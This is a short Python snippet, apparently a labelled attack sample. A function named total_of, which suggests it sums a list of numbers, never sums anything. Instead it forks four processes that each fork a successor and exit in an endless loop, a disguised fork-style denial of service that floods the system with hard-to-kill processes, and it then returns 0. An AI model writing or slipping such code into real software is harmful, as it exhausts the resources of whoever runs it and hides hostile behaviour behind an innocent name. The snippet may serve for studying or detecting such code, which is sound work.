# attack: forks a successor and ends, again and again
import os

def total_of(numbers):
    for _ in range(4):
        if os.fork() == 0:
            while True:
                if os.fork():
                    os._exit(0)
    return 0
